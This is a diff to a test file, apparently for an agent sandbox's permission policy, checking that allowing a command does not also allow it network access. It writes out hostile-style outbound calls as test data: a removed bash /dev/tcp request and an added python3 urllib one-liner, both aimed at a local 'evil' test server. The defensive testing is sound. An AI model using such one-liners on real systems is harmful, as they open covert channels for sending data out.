@@ -30,10 +30,14 @@ def policy(*rules: Rule) -> dict[str, Any]:
 
 
 async def test_to_allow_a_command_is_not_to_allow_it_the_network(scene: Scene, evil: Server) -> None:
-    send = f"exec 3<>/dev/tcp/127.0.0.1/{evil.port}; echo GET /gone >&3"
-    lone = Rule(do="allow", command="*"), Rule(do="allow", command="exec")
-    attack = await scene.run(call("exec", command=f"bash -c '{send}'", network=True), **policy(*lone))
-    assert evil.requests == [], attack.results
+    send = f"import urllib.request as u; u.urlopen('http://127.0.0.1:{evil.port}/gone')"
+    calls = call("exec", command=f'python3 -c "{send}"', network=True)
+    for allowed in (Rule(do="allow", command="python3"), Rule(do="allow", tool="exec"), Rule(do="allow")):
+        await scene.run(calls, **policy(allowed))
+    assert evil.requests == []
+    named = Rule(do="allow", command="python3", network=True)
+    attack = await scene.run(calls, **policy(named))
+    assert len(evil.requests) == 1, attack.results  # so the attack is a real one
 
 
 @pytest.mark.parametrize(
